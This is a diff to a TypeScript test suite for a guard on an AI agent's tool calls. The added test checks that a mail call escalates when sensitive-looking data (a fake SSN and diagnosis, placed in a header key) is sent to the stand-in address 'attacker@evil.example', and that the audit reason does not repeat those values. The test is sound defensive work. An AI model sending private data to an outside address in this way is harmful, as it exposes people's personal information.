@@ -162,6 +162,10 @@ describe('argument provenance and risk', () => {
     const send = (args: Record<string, unknown>) => g.check(ev({ tool: { ...mailTool, risk: 'low' }, args, history, label: label({ integrity: 'untrusted' }) }));
     expect(send({ to: 'attacker@evil.example' })).toMatchObject({ verdict: 'escalate' });
     expect((send({ to: 'GB33BUKB20201555555555' }) as { verdict: string }).verdict).toBe('allow');
+    // A record's keys are the model's words: the reason (fixed text, kept in events and the audit log) counts the values, never names them.
+    const smuggled = send({ headers: { 'Jane Roe SSN 536-22-8471 melanoma': 'attacker@evil.example' } });
+    expect(smuggled).toMatchObject({ verdict: 'escalate', reasons: [expect.stringContaining('1 argument value(s) only in untrusted content')] });
+    expect(JSON.stringify(smuggled)).not.toMatch(/536-22-8471|melanoma/);
   });
   it('traces identifiers inside free text, short ids, and links whatever their scheme', () => {
     const page: ContextItem[] = [
